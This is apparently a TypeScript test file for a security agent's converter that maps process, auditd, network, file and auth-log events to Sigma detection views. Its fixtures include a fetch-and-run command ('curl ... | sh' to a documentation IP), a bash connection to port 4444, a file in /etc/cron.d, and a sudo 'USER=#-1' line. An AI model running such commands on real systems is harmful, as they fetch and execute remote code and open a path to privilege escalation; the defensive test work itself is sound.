import {
  AuthEventAction,
  AuthEventKind,
  AuthEventOutcome,
  FileEventAction,
  NetworkEventDirection,
  NetworkEventKind,
  ProcessEventAction,
  type IEvent,
} from '@inosec/protos';
import { describe, expect, it } from 'vitest';
// Test only: the agent's own parsers build the events exactly as the sensors do.
// eslint-disable-next-line inosec/workspace-boundaries -- a test may import the agent's parsers
import { parseAuditRecords } from '../../../../edge-agent/src/sensors/auditd/parse-audit-records.js';
// eslint-disable-next-line inosec/workspace-boundaries -- a test may import the agent's parsers
import { parseAuthLine } from '../../../../edge-agent/src/sensors/auth/auth-line-parser.js';
import { toSigmaEvents, type SigmaView } from './sigma-events.js';

const NOW = 1_700_000_000_000_000;

/** The first event a parser produced (fails the test when there is none). */
function firstEvent<T>(events: readonly T[]): T {
  const [event] = events;
  if (event === undefined) throw new Error('the parser produced no event');
  return event;
}

function keys(views: readonly SigmaView[]): string[] {
  return views.map((view) => view.logsourceKey);
}

function view(views: readonly SigmaView[], key: string): Record<string, unknown> {
  const found = views.find((v) => v.logsourceKey === key);
  if (!found) throw new Error(`no ${key} view in ${keys(views).join(', ')}`);
  return found.event;
}

/** A procfs process start, shaped like process-poller.ts builds it. */
const procfsStart: IEvent = {
  sensor: 'procfs',
  timeUnixUs: NOW,
  process: {
    action: ProcessEventAction.ACTION_START,
    process: {
      pid: 4242,
      ppid: 4000,
      entityId: 'e-4242',
      executable: '/usr/bin/curl',
      name: 'curl',
      commandLine: 'curl -s http://203.0.113.7/x.sh',
      args: ['curl', '-s', 'http://203.0.113.7/x.sh'],
      workingDirectory: '/tmp',
      user: { id: '33', name: 'www-data' },
    },
    parent: {
      pid: 4000,
      entityId: 'e-4000',
      executable: '/usr/bin/bash',
      commandLine: 'bash -c curl -s http://203.0.113.7/x.sh | sh',
      user: { id: '33', name: 'www-data' },
    },
  },
};

describe('toSigmaEvents: processes', () => {
  it('maps a procfs start to one process_creation view with Sysmon-for-Linux names', () => {
    const views = toSigmaEvents(procfsStart);
    expect(keys(views)).toEqual(['linux/process_creation']);
    expect(view(views, 'linux/process_creation')).toEqual({
      Image: '/usr/bin/curl',
      CommandLine: 'curl -s http://203.0.113.7/x.sh',
      ProcessId: 4242,
      ProcessGuid: 'e-4242',
      User: 'www-data',
      CurrentDirectory: '/tmp',
      ParentImage: '/usr/bin/bash',
      ParentCommandLine: 'bash -c curl -s http://203.0.113.7/x.sh | sh',
      ParentProcessId: 4000,
      ParentProcessGuid: 'e-4000',
      ParentUser: 'www-data',
    });
  });

  it('leaves empty proto defaults absent and joins args when the command line is empty', () => {
    const views = toSigmaEvents({
      sensor: 'procfs',
      process: {
        action: ProcessEventAction.ACTION_START,
        process: { pid: 7, ppid: 1, executable: '', args: ['sleep', '5'], commandLine: '' },
      },
    });
    const event = view(views, 'linux/process_creation');
    expect(event['Image']).toBeUndefined();
    expect(event['CommandLine']).toBe('sleep 5');
    expect(event['ParentProcessId']).toBe(1); // from ppid when the parent is unknown
    expect(event['ParentImage']).toBeUndefined();
  });

  it('feeds nothing for an exit (near miss of a start)', () => {
    const exit: IEvent = {
      ...procfsStart,
      process: { ...procfsStart.process, action: ProcessEventAction.ACTION_EXIT },
    };
    expect(toSigmaEvents(exit)).toEqual([]);
  });

  it('rebuilds the auditd records of an exec the auditd sensor reported as a ProcessEvent', () => {
    const lines = [
      'type=SYSCALL msg=audit(1604994496.155:3008): arch=c000003e syscall=59 success=yes exit=0 a0=55c2 a1=55c3 a2=55c4 a3=8 items=2 ppid=29002 pid=1631 auid=1000 uid=1000 gid=1000 euid=1000 suid=1000 fsuid=1000 egid=1000 sgid=1000 fsgid=1000 tty=pts0 ses=104 comm="arp" exe="/usr/sbin/arp" key="susp_activity"',
      'type=EXECVE msg=audit(1604994496.155:3008): argc=2 a0="arp" a1="-a"',
      'type=CWD msg=audit(1604994496.155:3008): cwd="/home/wardog"',
      'type=PATH msg=audit(1604994496.155:3008): item=0 name="/usr/sbin/arp" inode=1 dev=08:01 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL',
      'type=PROCTITLE msg=audit(1604994496.155:3008): proctitle=617270002D61',
    ];
    const draft = firstEvent(parseAuditRecords(lines, { nowUs: NOW }).events);
    expect(draft?.process).toBeDefined();
    const views = toSigmaEvents(draft);
    expect(keys(views)).toEqual([
      'linux/process_creation',
      'linux/auditd',
      'linux/auditd',
      'linux/auditd',
      'linux/auditd',
      'linux/auditd',
    ]);
    expect(view(views, 'linux/process_creation')).toMatchObject({
      Image: '/usr/sbin/arp',
      CommandLine: 'arp -a',
    });
    const audit = views.filter((v) => v.logsourceKey === 'linux/auditd').map((v) => v.event);
    expect(audit[0]).toMatchObject({
      type: 'SYSCALL',
      SYSCALL: 'execve',
      exe: '/usr/sbin/arp',
      comm: 'arp',
      euid: '1000',
    });
    expect(audit[1]).toEqual({ type: 'EXECVE', argc: 2, a0: 'arp', a1: '-a' });
    expect(audit[2]).toEqual({ type: 'CWD', cwd: '/home/wardog' });
    expect(audit[3]).toMatchObject({ type: 'PATH', name: '/usr/sbin/arp' });
    expect(audit[4]).toEqual({ type: 'PROCTITLE', proctitle: 'arp -a' });
    // the rule key does not survive the ProcessEvent (documented limit)
    expect(audit[0]?.['key']).toBeUndefined();
  });

  it('does not give procfs starts auditd views (near miss: same process, other sensor)', () => {
    expect(keys(toSigmaEvents(procfsStart))).not.toContain('linux/auditd');
  });
});

describe('toSigmaEvents: auditd log events', () => {
  it('splits a non-exec audit event into one view per record with its raw keys', () => {
    const lines = [
      'type=SYSCALL msg=audit(1700000000.100:77): arch=c000003e syscall=2 success=yes exit=3 a0=7ffd a1=0 a2=1b6 a3=0 items=1 ppid=1 pid=900 auid=0 uid=0 gid=0 euid=0 comm="cat" exe="/usr/bin/cat" key="pam"\u001dARCH=x86_64 SYSCALL=open AUID="root" UID="root"',
      'type=CWD msg=audit(1700000000.100:77): cwd="/root"',
      'type=PATH msg=audit(1700000000.100:77): item=0 name="/etc/ld.so.preload" inode=5 nametype=NORMAL',
    ];
    const draft = firstEvent(parseAuditRecords(lines, { nowUs: NOW }).events);
    expect(draft?.log?.parser).toBe('auditd');
    const views = toSigmaEvents(draft);
    expect(keys(views)).toEqual(['linux/auditd', 'linux/auditd', 'linux/auditd', 'linux/*']);
    const [syscall, cwd, path] = views.map((v) => v.event);
    expect(syscall).toMatchObject({
      type: 'SYSCALL',
      SYSCALL: 'open',
      exe: '/usr/bin/cat',
      key: 'pam',
      a0: '7ffd',
    });
    expect(syscall?.['name']).toBeUndefined(); // PATH keys stay on the PATH record
    expect(cwd).toEqual({ type: 'CWD', cwd: '/root' });
    expect(path).toMatchObject({ type: 'PATH', item: '0', name: '/etc/ld.so.preload', nametype: 'NORMAL' });
    expect(views[3]?.event['original']).toContain('type=PATH');
  });

  it('joins the parts of a long EXECVE argument and keeps user-space records (SERVICE_STOP unit)', () => {
    const exec = parseAuditRecords(
      [
        'type=SYSCALL msg=audit(1700000001.000:78): arch=c000003e syscall=59 success=no exit=-2 items=1 ppid=1 pid=901 comm="x" exe="/x"',
        'type=EXECVE msg=audit(1700000001.000:78): argc=2 a0="sh" a1_len=6 a1[0]="abc" a1[1]="def"',
      ],
      { nowUs: NOW },
    ).events;
    const execve = toSigmaEvents(firstEvent(exec)).find((v) => v.event['type'] === 'EXECVE');
    expect(execve?.event).toMatchObject({ a0: 'sh', a1: 'abcdef' });
    const stop = parseAuditRecords(
      [
        'type=SERVICE_STOP msg=audit(1700000002.000:79): pid=1 uid=0 auid=4294967295 ses=4294967295 msg=\'unit=firewalld comm="systemd" exe="/usr/lib/systemd/systemd" hostname=? addr=? terminal=? res=success\'',
      ],
      { nowUs: NOW },
    ).events;
    const views = toSigmaEvents(firstEvent(stop));
    expect(views[0]).toEqual({
      logsourceKey: 'linux/auditd',
      event: expect.objectContaining({ type: 'SERVICE_STOP', unit: 'firewalld' }),
    });
  });

  it('maps an auditd ADD_USER AuthEvent to an ADD_USER record view, not to linux/auth', () => {
    const draft = parseAuditRecords(
      [
        'type=ADD_USER msg=audit(1700000003.000:80): pid=5 uid=0 auid=1000 ses=3 msg=\'op=add-user id=1001 exe="/usr/sbin/useradd" hostname=h addr=? terminal=pts/0 res=success\'\u001dUID="root" AUID="alice" ID="bob"',
      ],
      { nowUs: NOW },
    ).events;
    expect(firstEvent(draft).auth?.kind).toBe(AuthEventKind.KIND_ACCOUNT);
    const views = toSigmaEvents(firstEvent(draft));
    expect(keys(views)).toEqual(['linux/auditd']);
    expect(views[0]?.event).toMatchObject({ type: 'ADD_USER', exe: '/usr/sbin/useradd', res: 'success' });
  });
});

describe('toSigmaEvents: network and files', () => {
  const connection: IEvent = {
    sensor: 'netfs',
    network: {
      kind: NetworkEventKind.KIND_CONNECTION,
      transport: 1,
      ianaNumber: 6,
      source: { ip: '10.0.0.5', port: 51000 },
      destination: { ip: '198.51.100.9', port: 4444 },
      direction: NetworkEventDirection.DIRECTION_OUTBOUND,
      state: 'ESTABLISHED',
      process: { pid: 77, name: 'bash', executable: '/usr/bin/bash', entityId: 'e-77' },
      communityId: '1:abc',
    },
  };

  it('maps a connection to network_connection with Initiated as Sysmon writes it', () => {
    const views = toSigmaEvents(connection);
    expect(keys(views)).toEqual(['linux/network_connection']);
    expect(views[0]?.event).toEqual({
      Image: '/usr/bin/bash',
      ProcessId: 77,
      ProcessGuid: 'e-77',
      User: undefined,
      Protocol: 'tcp',
      Initiated: 'true',
      SourceIp: '10.0.0.5',
      SourcePort: 51000,
      SourceHostname: undefined,
      DestinationIp: '198.51.100.9',
      DestinationPort: 4444,
      DestinationHostname: undefined,
    });
    const inbound = toSigmaEvents({
      ...connection,
      network: { ...connection.network, direction: NetworkEventDirection.DIRECTION_INBOUND },
    });
    expect(inbound[0]?.event['Initiated']).toBe('false');
  });

  it('feeds nothing for flows and listening sockets (near misses of a connection)', () => {
    expect(
      toSigmaEvents({ ...connection, network: { ...connection.network, kind: NetworkEventKind.KIND_FLOW } }),
    ).toEqual([]);
    expect(
      toSigmaEvents({
        sensor: 'netfs',
        network: { kind: NetworkEventKind.KIND_LISTEN, destination: { ip: '0.0.0.0', port: 22 } },
      }),
    ).toEqual([]);
  });

  it('maps file actions to file_event and their variant, deletions to file_delete only', () => {
    const file = (action: FileEventAction, extra: object = {}): IEvent => ({
      sensor: 'fim',
      file: {
        action,
        path: '/etc/cron.d/evil',
        type: 'file',
        owner: { id: '0', name: 'root' },
        mode: '0644',
        ...extra,
      },
    });
    const created = toSigmaEvents(file(FileEventAction.ACTION_CREATED));
    expect(keys(created)).toEqual(['linux/file_event', 'linux/file_create']);
    expect(created[0]?.event).toEqual({
      TargetFilename: '/etc/cron.d/evil',
      SourceFilename: undefined,
      Image: undefined,
      ProcessId: undefined,
      User: undefined,
    });
    expect(created[1]?.event).toBe(created[0]?.event); // one object shared by both views
    expect(keys(toSigmaEvents(file(FileEventAction.ACTION_MODIFIED)))).toEqual([
      'linux/file_event',
      'linux/file_change',
    ]);
    expect(keys(toSigmaEvents(file(FileEventAction.ACTION_ATTRIBUTES_CHANGED)))).toEqual([
      'linux/file_change',
    ]);
    expect(keys(toSigmaEvents(file(FileEventAction.ACTION_DELETED)))).toEqual(['linux/file_delete']);
    const renamed = toSigmaEvents(file(FileEventAction.ACTION_RENAMED, { previousPath: '/tmp/x' }));
    expect(keys(renamed)).toEqual(['linux/file_event', 'linux/file_rename']);
    expect(renamed[0]?.event).toMatchObject({ TargetFilename: '/etc/cron.d/evil', SourceFilename: '/tmp/x' });
    expect(toSigmaEvents(file(FileEventAction.ACTION_UNSPECIFIED))).toEqual([]);
  });
});

describe('toSigmaEvents: auth log', () => {
  const options = { nowUs: NOW, source: '/var/log/auth.log' };

  it('maps an sshd logon to auth, sshd, syslog and linux/* with its parsed values', () => {
    const draft = parseAuthLine(
      'Mar  3 10:00:01 web1 sshd[812]: Accepted publickey for alice from 10.1.2.3 port 50122 ssh2: RSA SHA256:abc',
      options,
    );
    expect(draft.auth?.outcome).toBe(AuthEventOutcome.OUTCOME_SUCCESS);
    const views = toSigmaEvents(draft);
    expect(keys(views)).toEqual(['linux/auth', 'linux/sshd', 'linux/syslog', 'linux/*']);
    expect(view(views, 'linux/sshd')).toMatchObject({
      program: 'sshd',
      pid: 812,
      'user.name': 'alice',
      'source.ip': '10.1.2.3',
      'source.port': 50122,
      'auth.method': 'publickey',
      'event.outcome': 'success',
    });
    expect(view(views, 'linux/sshd')['USER']).toBeUndefined(); // sudo keys only on sudo records
  });

  it('maps a sudo record to the sudo view with USER and COMMAND (CVE-2019-14287 shape)', () => {
    const draft = parseAuthLine(
      'Mar  3 10:00:02 web1 sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=#-1 ; COMMAND=/usr/bin/id',
      options,
    );
    expect(draft.auth?.action).toBe(AuthEventAction.ACTION_ELEVATE);
    const views = toSigmaEvents(draft);
    expect(keys(views)).toEqual(['linux/auth', 'linux/sudo', 'linux/syslog', 'linux/*']);
    expect(view(views, 'linux/sudo')).toMatchObject({ USER: '#-1', COMMAND: '/usr/bin/id', TTY: 'pts/0' });
  });

  it('keeps the original line of an unparsed sshd error for the keyword rules', () => {
    const line = 'Mar  3 10:00:03 web1 sshd[900]: error: Corrupted MAC on input. [preauth]';
    const draft = parseAuthLine(line, options);
    expect(draft.log).toBeDefined();
    const views = toSigmaEvents(draft);
    expect(keys(views)).toEqual(['linux/syslog', 'linux/*', 'linux/auth', 'linux/sshd']);
    expect(view(views, 'linux/sshd')).toEqual({
      original: line,
      program: 'sshd',
      pid: 900,
      hostname: 'web1',
    });
  });

  it('routes program lines of another file to their service but not to linux/auth', () => {
    const line = 'Mar  3 10:00:04 web1 CRON[1200]: (root) REPLACE (root)';
    const views = toSigmaEvents(parseAuthLine(line, { nowUs: NOW, source: '/var/log/syslog' }));
    expect(keys(views)).toEqual(['linux/syslog', 'linux/*', 'linux/cron']);
    expect(view(views, 'linux/cron')['original']).toBe(line);
  });

  it('feeds nothing for agent FIM summaries, metrics and inventory', () => {
    expect(toSigmaEvents({ sensor: 'fim', log: { original: 'fim baseline', parser: 'fim' } })).toEqual([]);
    expect(toSigmaEvents({ sensor: 'metrics', metric: { name: 'cpu' } })).toEqual([]);
    expect(toSigmaEvents({ sensor: 'x' })).toEqual([]);
  });
});
